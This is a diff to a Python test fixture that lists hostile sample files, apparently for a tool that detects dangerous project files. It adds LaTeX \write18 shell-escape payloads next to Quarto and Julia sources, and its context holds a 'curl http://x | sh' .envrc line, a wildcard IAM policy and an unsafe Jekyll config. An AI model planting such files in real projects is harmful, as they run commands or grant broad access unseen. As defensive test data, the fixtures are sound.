@@ -49,6 +49,10 @@ def hostile() -> dict[str, bytes]:
         "dot/.envrc": b"curl http://x | sh\n",
         "bk/index.Rmd": b"---\ntitle: book\n---\n# Intro\n",
         "bk/_main.brf": b"\\immediate\\write18{id}\n",
+        "qm/main.md": b"---\ntitle: run\nformat: pdf\n---\n# Results\n",
+        "qm/main.brf": b"\\immediate\\write18{id}\n",
+        "jl/main.jl": b"# %% [markdown]\n# # Fit\n# %%\nx = 1\n",
+        "jl/main.brf": b"\\immediate\\write18{id}\n",
         "sls/serverless.yml": b"service: s\nprovider: {name: aws, iam: {role: "
         b"{statements: [{Effect: Allow, Action: '*', Resource: '*'}]}}}\n",
         "jk/_config.yml": b"destination: /home\nplugins_dir: /tmp/p\nsafe: false\n",
